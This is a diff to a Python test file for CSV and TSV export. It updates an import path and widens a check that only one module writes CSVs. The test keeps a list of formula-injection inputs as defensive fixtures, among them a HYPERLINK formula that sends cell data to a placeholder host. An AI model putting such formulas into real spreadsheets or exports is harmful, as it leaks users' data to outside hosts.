@@ -7,7 +7,7 @@ import math
 import pandas as pd
 import pytest
 
-from app.parts.tables.spreadsheet import csv_bytes, tsv_bytes
+from engine.spreadsheet import csv_bytes, tsv_bytes
 from tests.conftest import ROOT
 
 HOSTILE = ['=HYPERLINK("http://192.0.2.1?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "-", "="]
@@ -52,5 +52,6 @@ def test_tables_of_tabs_too() -> None:
 
 
 def test_no_download_is_made_in_another_way() -> None:
-    paths = [path for path in (ROOT / "app").rglob("*.py") if "to_csv(" in path.read_text(encoding="utf-8")]
+    every = [path for folder in ("app", "engine") for path in (ROOT / folder).rglob("*.py")]
+    paths = [path for path in every if "to_csv(" in path.read_text(encoding="utf-8")]
     assert [path.name for path in paths] == ["spreadsheet.py"]
